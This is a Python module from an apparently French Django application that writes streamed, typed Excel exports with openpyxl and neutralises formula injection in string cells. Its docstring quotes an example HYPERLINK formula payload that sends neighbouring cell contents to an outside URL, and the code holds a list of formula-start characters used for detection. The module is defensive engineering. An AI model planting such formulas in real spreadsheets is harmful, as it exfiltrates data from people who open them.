"""Workbooks written by the application: streamed, typed, readable, safe against formula
injection.

**Streamed.** ``Classeur`` is write-only by default (openpyxl's ``write_only=True``): rows are
written to a temporary file as they are appended, so an export of a hundred thousand rows
neither fills the memory nor slows down with its size. A write-only sheet cannot be read back
(no ``max_row``, no ``ws.cell``): everything about the layout is decided before the first row
(column widths, frozen header row) or kept in the sheet's tail (auto-filter, merged cells, data
validations, protection), and ``FeuilleEnFlux.lignes_ecrites`` counts the rows written.

**Typed and readable.** ``FeuilleEnFlux.tableau`` writes a table (optional rows above it, a
bold header, the data rows, optional rows below): each column declares its type
(``ColonneExcel``) or the type is inferred from the Python values (``Decimal``/``float`` →
number with 2 decimals, ``int`` → integer, ``date`` → ``dd/mm/yyyy``, ``datetime`` → local
``dd/mm/yyyy hh:mm``, ``Pourcentage`` → percentage cell); numbers stay numbers, dates stay
dates, with a French display format (``FORMATS``). The header row is frozen and carries an
auto-filter over the data; the widths are fitted to the header and a sample of the first rows
(``ECHANTILLON``), bounded (``LARGEUR_MIN``, ``LARGEUR_MAX``), so the whole export never
needs to be read twice.

**Safe.** A text typed by a user or read from a public file (a company name, a mission's job
title, a buyer's name from a DECP file) must never become a live formula in a workbook that
someone else opens: ``=HYPERLINK("http://…"&A1,"clic")`` would send the neighbouring cells
away on a click. openpyxl writes every string starting with ``=`` as a formula, and Excel
re-reads a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
formula as soon as someone edits it. ``texte_sur`` is applied to every string cell (when a row
is appended to a write-only sheet, or when a read-write workbook is saved), so such a text is
stored as a string, with Excel's « quote prefix » (the text stays exactly as typed, and stays
text when the cell is edited). Numbers, dates and booleans are left alone: a negative number
typed as a number stays a number.
"""

from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from itertools import chain, islice

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from mife.core import formats

DEBUTS_DE_FORMULE = ("=", "+", "-", "@", "\t", "\r")

# Column types and their Excel display format (the same French conventions as formats.py).
TEXTE, ENTIER, NOMBRE, HEURES, MONTANT, POURCENTAGE, DATE, DATE_HEURE, MOIS = (
    "texte",
    "entier",
    "nombre",
    "heures",
    "montant",
    "pourcentage",
    "date",
    "date_heure",
    "mois",
)
FORMATS = {
    ENTIER: "0",
    NOMBRE: "#,##0.00",
    HEURES: "#,##0.00",
    MONTANT: '#,##0.00 "€"',
    POURCENTAGE: "0.00 %",
    DATE: "dd/mm/yyyy",
    DATE_HEURE: "dd/mm/yyyy hh:mm",
    MOIS: "mm/yyyy",
}
# A count in a « nombre » column (lots, actions, sessions…): digits grouped, no « ,00 ».
FORMAT_COMPTE = "#,##0"
ECHANTILLON = 200  # rows read to fit the column widths
LARGEUR_MIN, LARGEUR_MAX = 8, 60
ENTETE = Font(bold=True)


def est_dangereux(valeur) -> bool:
    """True for a text that a spreadsheet could read as a formula."""
    return isinstance(valeur, str) and valeur.startswith(DEBUTS_DE_FORMULE)


def texte_sur(cellule: Cell) -> Cell:
    """Make a string cell plain text (never a formula nor an error code); returns the cell.

    The one rule of the application: every writer goes through it (see ``Classeur``).
    """
    if isinstance(cellule.value, str):
        cellule.data_type = "s"
        if est_dangereux(cellule.value):
            cellule.quotePrefix = True
    return cellule


@dataclass(frozen=True)
class Pourcentage:
    """A percentage as the application computes it (``64.07`` for 64,07 %): written as the
    fraction ``0.6407`` in a percentage cell."""

    valeur: Decimal | float | int | None


@dataclass(frozen=True)
class ColonneExcel:
    """A column of a table: its header, its type (a key of ``FORMATS``, ``TEXTE``, or empty to
    infer it from each value) and, rarely, a fixed width."""

    titre: str
    type: str = ""
    largeur: float | None = None


class Cellule:
    """A value with a style, for the rows around a table (title, total) or a styled column:
    ``Cellule("Total", font=Font(bold=True))``. The keywords are attributes of an openpyxl
    cell (``font``, ``fill``, ``border``, ``alignment``, ``protection``, ``number_format``)."""

    __slots__ = ("styles", "valeur")

    def __init__(self, valeur, **styles):
        self.valeur = valeur
        self.styles = styles


def _fraction(pourcentage) -> float:
    """``64.07`` -> ``0.6407`` (computed in decimal: no ``0.6406999999999999``)."""
    return float(Decimal(str(pourcentage)) / 100)


def valeur_typee(valeur, type_: str = ""):
    """``(value, number format)`` written for ``valeur`` in a column of type ``type_``."""
    if valeur is None or valeur == "":
        return None, None
    if isinstance(valeur, Pourcentage):
        if valeur.valeur is None:
            return None, None
        return _fraction(valeur.valeur), FORMATS[POURCENTAGE]
    if isinstance(valeur, bool):
        return ("Oui" if valeur else "Non"), None
    if isinstance(valeur, datetime):
        if timezone.is_aware(valeur):
            valeur = timezone.localtime(valeur).replace(tzinfo=None)
        return valeur, FORMATS[MOIS if type_ == MOIS else DATE_HEURE]
    if isinstance(valeur, date):
        return valeur, FORMATS[MOIS if type_ == MOIS else DATE]
    if isinstance(valeur, Decimal | float | int) and type_ != TEXTE:
        if type_ == POURCENTAGE:
            return _fraction(valeur), FORMATS[POURCENTAGE]
        if type_ == NOMBRE and isinstance(valeur, int):
            return valeur, FORMAT_COMPTE
        if type_ in FORMATS:
            return (float(valeur) if isinstance(valeur, Decimal) else valeur), FORMATS[type_]
        if isinstance(valeur, int):
            return valeur, None  # an integer (a year, a count) keeps Excel's general format
        return float(valeur), FORMATS[NOMBRE]
    return (valeur if isinstance(valeur, str) else str(valeur)), None


def texte_affiche(valeur, type_: str = "") -> str:
    """The text Excel shows for a cell, to fit the column width."""
    if isinstance(valeur, Cellule):
        valeur = valeur.valeur
    valeur, format_ = valeur_typee(valeur, type_)
    if valeur is None:
        return ""
    if format_ == FORMATS[POURCENTAGE]:
        return formats.nombre(valeur * 100, 2) + " %"
    if format_ == FORMATS[MONTANT]:
        return formats.montant(valeur)
    if isinstance(valeur, datetime) and format_ == FORMATS[DATE_HEURE]:
        return "00/00/0000 00:00"
    if isinstance(valeur, date):
        return "00/00/0000"
    if isinstance(valeur, float):
        return formats.nombre(valeur, 2)
    return str(valeur)


def _largeur(textes: Iterable[str]) -> float:
    plus_long = max(
        (max((len(ligne) for ligne in t.splitlines()), default=0) for t in textes), default=0
    )
    return float(min(max(plus_long + 2, LARGEUR_MIN), LARGEUR_MAX))


class FeuilleEnFlux(WriteOnlyWorksheet):
    """A write-only sheet: appended strings are made safe before being streamed, appended
    rows are counted (``lignes_ecrites``), and ``tableau`` writes a typed, readable table."""

    def __init__(self, parent, title):
        super().__init__(parent, title)
        self.lignes_ecrites = 0

    def append(self, row):
        super().append([self._sure(valeur) for valeur in row])
        self.lignes_ecrites += 1

    def cellule(self, valeur, format_=None, **styles) -> WriteOnlyCell:
        """A styled cell for this sheet (``Cellule`` markers become one)."""
        cellule = WriteOnlyCell(self, value=valeur)
        if format_:
            cellule.number_format = format_
        for nom, style in styles.items():
            setattr(cellule, nom, style)
        return cellule

    def _sure(self, valeur):
        if isinstance(valeur, Cellule):
            valeur = self.cellule(valeur.valeur, **valeur.styles)
        if isinstance(valeur, Cell):
            return texte_sur(valeur)
        if isinstance(valeur, Pourcentage):
            nombre, format_ = valeur_typee(valeur)
            return self.cellule(nombre, format_)
        if isinstance(valeur, str) and (est_dangereux(valeur) or valeur.startswith("#")):
            # Plain values are cheaper; only a text that would not stay text gets a cell.
            return texte_sur(WriteOnlyCell(self, value=valeur))
        return valeur

    def tableau(
        self,
        colonnes: Sequence[ColonneExcel | str],
        lignes: Iterable[Sequence],
        *,
        avant: Iterable[Sequence] = (),
        apres: Iterable[Sequence] = (),
        colonnes_figees: int = 0,
        filtre: bool = True,
        style_entete: dict | None = None,
        echantillon: int = ECHANTILLON,
    ) -> int:
        """Write ``avant`` rows, the header, ``lignes`` (any iterable, read once) and
        ``apres`` rows; returns the number of data rows. Must be the first write to the sheet
        (widths and frozen panes are set before any row)."""
        if self.lignes_ecrites:
            raise ValueError("tableau() doit écrire les premières lignes de la feuille.")
        colonnes = [c if isinstance(c, ColonneExcel) else ColonneExcel(c) for c in colonnes]
        avant = list(avant)
        lignes = iter(lignes)
        debut = list(islice(lignes, echantillon))
        for j, colonne in enumerate(colonnes):
            largeur = colonne.largeur or _largeur(
                chain(
                    [colonne.titre + "  "],  # room for the filter's button
                    (texte_affiche(ligne[j], colonne.type) for ligne in debut if j < len(ligne)),
                )
            )
            self.column_dimensions[get_column_letter(j + 1)].width = largeur
        ligne_entete = len(avant) + 1
        self.freeze_panes = f"{get_column_letter(colonnes_figees + 1)}{ligne_entete + 1}"
        for ligne in avant:
            self.append([self._typee(v, "") for v in ligne])
        styles = style_entete or {"font": ENTETE}
        self.append([self.cellule(c.titre, **styles) for c in colonnes])
        convertir = [self._convertisseur(c.type) for c in colonnes]
        nombre = 0
        for ligne in chain(debut, lignes):
            # The values are made safe by their column's converter: no second pass (_sure).
            WriteOnlyWorksheet.append(self, [c(v) for c, v in zip(convertir, ligne, strict=False)])
            nombre += 1
        self.lignes_ecrites += nombre
        if filtre and colonnes:
            derniere = get_column_letter(len(colonnes))
            self.auto_filter.ref = f"A{ligne_entete}:{derniere}{ligne_entete + nombre}"
        for ligne in apres:
            self.append([self._typee(v, "") for v in ligne])
        return nombre

    def _convertisseur(self, type_: str):
        """The function writing a value of a column of type ``type_``: what ``_typee`` then
        ``_sure`` would give, decided once per column and cheap for the usual values.

        A plain text (the most frequent value) is written as such unless it could become a
        formula or an error code; a typed value goes in a cell kept for the column and its
        format (a write-only sheet writes each appended row before the next one is given, so
        the cell can be filled again on the next row: no style object per cell)."""
        cellules: dict[str, WriteOnlyCell] = {}
        sure = self._sure

        def convertir(valeur):
            if type(valeur) is str:
                if not valeur:
                    return None
                if valeur.startswith(DEBUTS_DE_FORMULE) or valeur[0] == "#":
                    return texte_sur(WriteOnlyCell(self, value=valeur))
                return valeur
            if valeur is None:
                return None
            if isinstance(valeur, Cellule):
                return sure(self._typee(valeur, type_))
            valeur, format_ = valeur_typee(valeur, type_)
            if format_ is None:
                return sure(valeur)
            cellule = cellules.get(format_)
            if cellule is None:
                cellule = cellules[format_] = self.cellule(None, format_)
            cellule.value = valeur
            return cellule

        return convertir

    def _typee(self, valeur, type_: str):
        styles = {}
        if isinstance(valeur, Cellule):
            valeur, styles = valeur.valeur, valeur.styles
        valeur, format_ = valeur_typee(valeur, type_)
        if format_ or styles:
            # Only typed or styled cells need a cell object (plain values are much cheaper).
            return self.cellule(valeur, format_, **styles)
        return valeur


class Classeur(Workbook):
    """``openpyxl.Workbook`` for the application's exports and templates, write-only unless
    told otherwise (``Classeur(write_only=False)``, kept for small read-write needs)."""

    def __init__(self, write_only: bool = True, iso_dates: bool = False):
        super().__init__(write_only=write_only, iso_dates=iso_dates)

    def create_sheet(self, title=None, index=None):
        if not self.write_only:
            return super().create_sheet(title=title, index=index)
        feuille = FeuilleEnFlux(parent=self, title=title)
        self._add_sheet(sheet=feuille, index=index)
        return feuille

    def feuille(self, titre: str) -> FeuilleEnFlux:
        """A new streamed sheet (title cut to Excel's 31 characters)."""
        return self.create_sheet(title=titre[:31])

    def save(self, filename):
        if not self.write_only:
            for feuille in self.worksheets:
                for cellule in feuille._cells.values():
                    texte_sur(cellule)
        super().save(filename)

    def octets(self) -> bytes:
        """The saved workbook as bytes (small workbooks: reports, templates)."""
        from io import BytesIO

        sortie = BytesIO()
        self.save(sortie)
        return sortie.getvalue()
